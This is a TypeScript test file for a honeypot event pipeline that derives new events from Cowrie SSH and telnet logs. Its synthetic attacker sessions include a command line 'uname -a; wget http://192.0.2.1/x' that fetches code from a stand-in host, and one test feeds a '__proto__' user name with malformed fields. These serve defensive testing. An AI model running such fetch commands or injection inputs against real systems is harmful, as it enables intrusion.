import { type EventKind, isId } from "@tyr/contract";
import { expect, test } from "vitest";
import { DERIVED_SENSOR } from "#collect";
import { defineLifter, type Lifter, type LiftEvent } from "./lifter.ts";
import { Lift } from "./lift.ts";
import { allLifters } from "./lifters.ts";
import { cowrie, eventsFrom, lifted, quiet, testHash } from "./testing/lines.ts";

const counting: Lifter = defineLifter<number>({
  name: "counting",
  version: 1,
  kinds: ["auth_attempt"],
  groupsMax: 10,
  lift(event, groups, emit) {
    if (event.user === "poison") throw new Error("cannot read this");
    const count = (groups.get("all") ?? 0) + 1;
    groups.set("all", "lane", count);
    const fields = { count };
    emit.event({
      kind: "identity",
      action: "counted",
      category: "identity",
      identity: [event.id],
      time: event.time,
      fields,
      from: [event.id],
    });
  },
});

const attempt = (second: number, username: string): string =>
  cowrie(second, { eventid: "login.failed", username, password: "x" });
const ofKind = (event: LiftEvent, kind: string): LiftEvent => ({ ...event, kind: kind as EventKind });

test("a lifter that breaks on an event costs that event's derivation, is told of once, and stops nobody", () => {
  const failures: string[] = [];
  const lift = new Lift([counting], { ...quiet, onFailure: (lifter) => failures.push(lifter) });
  const events = eventsFrom([attempt(1, "a"), attempt(2, "poison"), attempt(3, "poison"), attempt(4, "b")]);
  expect(events.map((event) => lift.feed(event).derived.length)).toEqual([1, 0, 0, 1]);
  expect(failures).toEqual(["counting"]);
  expect(lift.figures().lifters).toMatchObject([{ lifter: "counting", events: 4, derived: 2, failures: 2, groups: 1 }]);
});

test("what Tyr derived itself is passed over, so nothing feeds on its own output", () => {
  const lift = new Lift([counting], quiet);
  const [event] = eventsFrom([attempt(1, "a")]);
  if (event === undefined) throw new Error("one line, one event");
  expect(lift.feed({ ...event, sensorId: DERIVED_SENSOR.id }).derived).toEqual([]);
  expect(lift.figures().lifters[0]).toMatchObject({ events: 0 });
});

test("kinds nobody claims are counted, and told of once each: those we know and those we do not", () => {
  const told: (readonly [string, boolean])[] = [];
  const lift = new Lift([counting], { ...quiet, onUnclaimed: (kind, known) => told.push([kind, known]) });
  const [event] = eventsFrom([attempt(1, "a")]);
  if (event === undefined) throw new Error("one line, one event");
  for (const kind of ["log", "log", "from the future"]) lift.feed(ofKind(event, kind));
  expect(told).toEqual([
    ["log", true],
    ["from the future", false],
  ]);
  expect(lift.figures().unclaimed).toEqual([
    { kind: "log", events: 2, known: true },
    { kind: "from the future", events: 1, known: false },
  ]);
});

function busyLines(): readonly string[] {
  const lines: string[] = [];
  for (let second = 0; second < 400; second += 1) {
    const session = `s${second % 7}`;
    const src_ip = `203.0.113.${second % 5}`;
    const about = { session, src_ip, protocol: second % 3 === 0 ? "telnet" : "ssh" };
    const at = second * 47;
    if (second % 7 === 0)
      lines.push(
        cowrie(at, { eventid: "login.failed", username: `u${second % 4}`, password: `Secret-${second % 3}`, ...about }),
      );
    else if (second % 11 === 0) lines.push(cowrie(at, { eventid: "session.closed", ...about }));
    else if (second % 5 === 0)
      lines.push(cowrie(at, { eventid: "command.input", input: "uname -a; wget http://192.0.2.1/x", ...about }));
    else lines.push(cowrie(at, { eventid: "client.version", version: "SSH-2.0-Go", ...about }));
  }
  return lines;
}

test("what is derived depends on the events and their order: killed and restored anywhere, it is the same", () => {
  const events = eventsFrom(busyLines());
  const whole = lifted(events, false).derived;
  expect(whole.length).toBeGreaterThan(10);
  for (const place of [1, 57, 199, 333]) {
    const first = new Lift(allLifters(testHash), quiet);
    const before = events.slice(0, place).flatMap((event) => first.feed(event).derived);
    const second = new Lift(allLifters(testHash), quiet);
    const saved = first
      .takeDirty()
      .flatMap(({ lifter, version, upserts }) => upserts.map((one) => ({ ...one, lifter, version })));
    expect(second.restore(saved)).toBe(0);
    const after = events.slice(place).flatMap((event) => second.feed(event).derived);
    expect([...before, ...after]).toEqual(whole);
  }
});

test("state of a lifter that changed or is gone is not gone on from", () => {
  const lift = new Lift([counting], quiet);
  const state = { key: "all", lane: "lane", tick: 1, state: "5" };
  expect(
    lift.restore([
      { ...state, lifter: "counting", version: 0 },
      { ...state, lifter: "gone", version: 1 },
    ]),
  ).toBe(2);
  expect(lift.figures().lifters[0]).toMatchObject({ groups: 0 });
});

test("every lifter derives nothing, without an error, from events that lack everything they look for", () => {
  const failures: unknown[] = [];
  const lift = new Lift(allLifters(testHash), { ...quiet, onFailure: (_lifter, error) => failures.push(error) });
  const [event] = eventsFrom([attempt(1, "a")]);
  if (event === undefined) throw new Error("one line, one event");
  const bare = { ...event, src: null, user: null, fields: {}, ecs: {}, logsource: {} };
  for (const kind of ["session", "auth_attempt", "command", "payload", "network", "http_request", "db_query", "email"])
    for (const src of [null, { ip: "203.0.113.1", port: null }])
      expect(lift.feed({ ...ofKind(bare, kind), src, user: null }).derived).toEqual([]);
  const hostile = {
    "session.id": 5,
    "event.action": ["x"],
    "process.command_line": {},
    "http.response.bytes": "1e9",
    bytes_out: -1,
    rows: Number.NaN,
    password: { a: 1 },
  };
  for (const kind of ["session", "auth_attempt", "command", "http_request", "db_query"])
    lift.feed({
      ...ofKind(bare, kind),
      src: { ip: "203.0.113.2", port: 1 },
      user: "__proto__",
      fields: hostile,
      ecs: hostile,
    });
  expect(failures).toEqual([]);
});

test("ids of derived events are ids of events", () => {
  const { derived, messages } = lifted(eventsFrom(busyLines()));
  expect(messages.length).toBeGreaterThan(0);
  for (const { payload } of messages) expect("event_id" in payload && isId("event", payload.event_id)).toBe(true);
  expect(derived.every(({ from }) => from.every((id) => isId("event", id)))).toBe(true);
});
